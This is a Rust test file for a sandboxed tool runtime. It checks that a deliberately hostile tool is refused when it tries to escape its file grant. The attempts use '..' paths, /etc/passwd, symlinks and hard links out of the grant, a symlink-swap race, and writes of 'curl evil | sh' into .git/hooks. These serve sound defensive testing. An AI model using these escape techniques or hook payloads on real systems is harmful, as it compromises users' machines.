//! Escape attempts: each must be refused with `denied`, and nothing outside the grant
//! read or written. The hostile tool declares no resources, so these exercise the
//! runtime's per-operation checks, not the broker's decision.

use std::os::unix::fs::symlink;

use bx_broker::AllowList;
use serde_json::json;

use super::*;

/// A granted directory and a secret outside it, side by side in one temp dir.
struct Layout {
    _tmp: tempfile::TempDir,
    granted: PathBuf,
    outside: PathBuf,
}

const SECRET: &str = "TOP-SECRET-CONTENT";

fn layout() -> Layout {
    let tmp = tempfile::tempdir().unwrap();
    let granted = tmp.path().join("granted");
    let outside = tmp.path().join("outside");
    std::fs::create_dir_all(granted.join("sub")).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(granted.join("inside.txt"), "inside").unwrap();
    std::fs::write(outside.join("secret.txt"), SECRET).unwrap();
    Layout { _tmp: tmp, granted, outside }
}

fn read_grant(l: &Layout) -> AllowList {
    AllowList::new().read(&s(&l.granted)).unwrap()
}

fn hostile_read(allow: AllowList, path: &str) -> Result<bx_runtime::CallReport, RunError> {
    call(tool("test_hostile"), allow, json!({"mode": "read", "path": path}))
}

#[test]
fn reads_inside_the_grant() {
    let l = layout();
    let got = ok_text(hostile_read(read_grant(&l), &s(&l.granted.join("inside.txt"))));
    assert_eq!(got, "inside");
}

#[test]
fn refuses_parent_components() {
    let l = layout();
    let path = format!("{}/../outside/secret.txt", s(&l.granted));
    let why = denied(hostile_read(read_grant(&l), &path));
    assert!(why.contains(".."), "{why}");
}

#[test]
fn refuses_absolute_path_outside() {
    let l = layout();
    let why = denied(hostile_read(read_grant(&l), &s(&l.outside.join("secret.txt"))));
    assert!(why.contains("no read grant covers"), "{why}");
    let why = denied(hostile_read(read_grant(&l), "/etc/passwd"));
    assert!(why.contains("no read grant covers"), "{why}");
}

#[test]
fn refuses_relative_path() {
    let l = layout();
    let why = denied(hostile_read(read_grant(&l), "inside.txt"));
    assert!(why.contains("not absolute"), "{why}");
}

#[test]
fn refuses_symlink_pointing_out() {
    let l = layout();
    symlink(l.outside.join("secret.txt"), l.granted.join("link.txt")).unwrap();
    symlink(&l.outside, l.granted.join("linkdir")).unwrap();
    let why = denied(hostile_read(read_grant(&l), &s(&l.granted.join("link.txt"))));
    assert!(why.contains("outside the granted root"), "{why}");
    let why = denied(hostile_read(read_grant(&l), &s(&l.granted.join("linkdir/secret.txt"))));
    assert!(why.contains("outside the granted root"), "{why}");
    let list = call(
        tool("test_hostile"),
        read_grant(&l),
        json!({"mode": "list", "path": s(&l.granted.join("linkdir"))}),
    );
    assert!(denied(list).contains("outside the granted root"));
}

#[test]
fn follows_symlink_that_stays_inside() {
    let l = layout();
    symlink("inside.txt", l.granted.join("alias.txt")).unwrap();
    assert_eq!(ok_text(hostile_read(read_grant(&l), &s(&l.granted.join("alias.txt")))), "inside");
}

#[test]
fn symlink_swapped_between_check_and_use_never_leaks() {
    // Regression: a path checked and then reopened could be swapped in between. The host
    // verifies the descriptor it opened and reads that same descriptor.
    let l = layout();
    let link = l.granted.join("swap.txt");
    symlink("inside.txt", &link).unwrap();
    let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let flipper = {
        let (stop, link, out) = (Arc::clone(&stop), link.clone(), l.outside.join("secret.txt"));
        std::thread::spawn(move || {
            let tmp = link.with_extension("tmp");
            let mut flips = 0u64;
            while !stop.load(Ordering::Relaxed) {
                let target: &Path =
                    if flips.is_multiple_of(2) { &out } else { Path::new("inside.txt") };
                let _ = std::fs::remove_file(&tmp);
                symlink(target, &tmp).unwrap();
                std::fs::rename(&tmp, &link).unwrap(); // atomic swap of the link
                flips += 1;
            }
            flips
        })
    };
    let (mut read_inside, mut refused) = (0, 0);
    for _ in 0..300 {
        match hostile_read(read_grant(&l), &s(&link)).unwrap().result {
            Ok(Output::Text(t)) => {
                assert!(!t.contains(SECRET), "secret leaked through a swapped symlink");
                assert_eq!(t, "inside");
                read_inside += 1;
            }
            Err(CallError::Denied(_)) => refused += 1,
            // The link can be missing for an instant between remove and rename.
            Err(CallError::Failed(_)) => {}
            other => panic!("unexpected {other:?}"),
        }
    }
    stop.store(true, Ordering::Relaxed);
    let flips = flipper.join().unwrap();
    assert!(flips > 0 && read_inside + refused > 0, "race not exercised: {flips} flips");
}

#[test]
fn refuses_write_through_read_grant() {
    let l = layout();
    let target = l.granted.join("inside.txt");
    let r = call(
        tool("test_hostile"),
        read_grant(&l),
        json!({"mode": "write", "path": s(&target), "content": "pwned"}),
    );
    assert!(denied(r).contains("no write grant covers"));
    let r = call(
        tool("test_hostile"),
        read_grant(&l),
        json!({"mode": "mkdir", "path": s(&l.granted.join("new"))}),
    );
    assert!(denied(r).contains("no write grant covers"));
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "inside");
    assert!(!l.granted.join("new").exists());
}

#[test]
fn refuses_write_through_symlink() {
    let l = layout();
    symlink(l.outside.join("secret.txt"), l.granted.join("out.txt")).unwrap();
    symlink("inside.txt", l.granted.join("in.txt")).unwrap();
    let allow = AllowList::new().write(&s(&l.granted)).unwrap();
    for name in ["out.txt", "in.txt"] {
        let r = call(
            tool("test_hostile"),
            allow.clone(),
            json!({"mode": "write", "path": s(&l.granted.join(name)), "content": "pwned"}),
        );
        assert!(denied(r).contains("symlink"), "{name}");
    }
    assert_eq!(std::fs::read_to_string(l.outside.join("secret.txt")).unwrap(), SECRET);
    assert_eq!(std::fs::read_to_string(l.granted.join("inside.txt")).unwrap(), "inside");
}

/// A write lands at the path it names or nowhere: a symlinked directory inside the root
/// (`docs -> .git/hooks`, as a checked-out repository can hold) is not passed through,
/// though both ends lie in the grant; so an approval shown `docs/post-commit` cannot
/// change a git hook. Reads still follow it.
#[test]
fn refuses_write_through_a_symlinked_directory_inside_the_root() {
    let l = layout();
    std::fs::create_dir_all(l.granted.join(".git/hooks")).unwrap();
    symlink(".git/hooks", l.granted.join("docs")).unwrap();
    std::fs::write(l.granted.join(".git/hooks/pre-push"), "#!/bin/sh\n").unwrap();
    let allow = AllowList::new().write(&s(&l.granted)).unwrap();
    // (Append and create take the same path through the host as overwrite.)
    for name in ["docs/post-commit", "docs/pre-push"] {
        let r = call(
            tool("test_hostile"),
            allow.clone(),
            json!({"mode": "write", "path": s(&l.granted.join(name)), "content": "curl evil | sh"}),
        );
        assert!(denied(r).contains("docs is a symlink"), "{name}");
    }
    let r = call(
        tool("test_hostile"),
        allow.clone(),
        json!({"mode": "mkdir", "path": s(&l.granted.join("docs/new"))}),
    );
    assert!(denied(r).contains("docs is a symlink"));
    assert!(!l.granted.join(".git/hooks/post-commit").exists());
    assert!(!l.granted.join(".git/hooks/new").exists());
    assert_eq!(
        std::fs::read_to_string(l.granted.join(".git/hooks/pre-push")).unwrap(),
        "#!/bin/sh\n"
    );
    assert_eq!(ok_text(hostile_read(allow, &s(&l.granted.join("docs/pre-push")))), "#!/bin/sh\n");
}

/// A file with a second name is not written: the owner was shown one name, and a hard
/// link from `notes.md` to `.git/hooks/post-commit` would turn the write into a hook.
#[test]
fn refuses_write_to_a_file_with_another_name() {
    let l = layout();
    std::fs::create_dir_all(l.granted.join(".git/hooks")).unwrap();
    std::fs::write(l.granted.join(".git/hooks/post-commit"), "old").unwrap();
    std::fs::hard_link(l.granted.join(".git/hooks/post-commit"), l.granted.join("notes.md"))
        .unwrap();
    let allow = AllowList::new().write(&s(&l.granted)).unwrap();
    let r = call(
        tool("test_hostile"),
        allow.clone(),
        json!({"mode": "write", "path": s(&l.granted.join("notes.md")), "content": "pwn"}),
    );
    assert!(denied(r).contains("has 2 names"));
    assert_eq!(std::fs::read_to_string(l.granted.join(".git/hooks/post-commit")).unwrap(), "old");
    // Read, it is labelled at the top: its other names' grants cannot be seen.
    let read = hostile_read(allow, &s(&l.granted.join("notes.md"))).unwrap();
    assert_eq!(read.label, bx_broker::Label::TOP);
    assert_eq!(ok_text(Ok(read)), "old");
}

/// A granted root swapped for a symlink after the decision takes no write elsewhere.
#[test]
fn refuses_write_when_the_root_itself_became_a_symlink() {
    let l = layout();
    let allow = AllowList::new().write(&s(&l.granted)).unwrap();
    std::fs::rename(&l.granted, l.granted.with_extension("old")).unwrap();
    symlink(&l.outside, &l.granted).unwrap();
    let r = call(
        tool("test_hostile"),
        allow,
        json!({"mode": "write", "path": s(&l.granted.join("pre-push")), "content": "pwn"}),
    );
    assert!(denied(r).contains("now resolves to"));
    assert!(!l.outside.join("pre-push").exists());
}

#[test]
fn refuses_denied_sub_path_inside_granted_root() {
    let l = layout();
    std::fs::create_dir(l.granted.join("keys")).unwrap();
    std::fs::write(l.granted.join("keys/id"), SECRET).unwrap();
    symlink("keys", l.granted.join("innocent")).unwrap();
    let allow = || {
        AllowList::new().write(&s(&l.granted)).unwrap().deny(&s(&l.granted.join("keys"))).unwrap()
    };
    // By name, through a symlink inside the root, by listing, by stat, by writing.
    let why = denied(hostile_read(allow(), &s(&l.granted.join("keys/id"))));
    assert!(why.contains("denied path"), "{why}");
    let why = denied(hostile_read(allow(), &s(&l.granted.join("innocent/id"))));
    assert!(why.contains("denied path"), "{why}");
    let r = call(
        tool("test_hostile"),
        allow(),
        json!({"mode": "stat", "path": s(&l.granted.join("innocent/id"))}),
    );
    assert!(denied(r).contains("denied path"));
    let r = call(
        tool("test_hostile"),
        allow(),
        json!({"mode": "write", "path": s(&l.granted.join("innocent/new")), "content": "x"}),
    );
    // A write never passes through a symlinked directory, denied target or not.
    assert!(denied(r).contains("innocent is a symlink"));
    let listed = ok_text(call(
        tool("test_hostile"),
        allow(),
        json!({"mode": "list", "path": s(&l.granted)}),
    ));
    assert!(!listed.contains("\"dir keys\""), "denied sub-path listed: {listed}");
    assert!(listed.contains("inside.txt"), "{listed}");
    assert!(!l.granted.join("keys/new").exists());
}

#[test]
fn file_root_reaches_only_that_file() {
    let l = layout();
    let allow = || AllowList::new().read(&s(&l.granted.join("inside.txt"))).unwrap();
    assert_eq!(ok_text(hostile_read(allow(), &s(&l.granted.join("inside.txt")))), "inside");
    assert!(denied(hostile_read(allow(), &s(&l.granted.join("sub")))).contains("no read grant"));
}

#[test]
fn grant_for_another_digest_is_refused() {
    let hostile = tool("test_hostile");
    let other = tool("fs_read");
    let g = grant(other, AllowList::new());
    match runtime().call_blocking(hostile, g, r#"{"mode":"echo","text":"x"}"#) {
        Err(RunError::GrantMismatch { .. }) => {}
        other => panic!("expected a grant mismatch, got {other:?}"),
    }
}
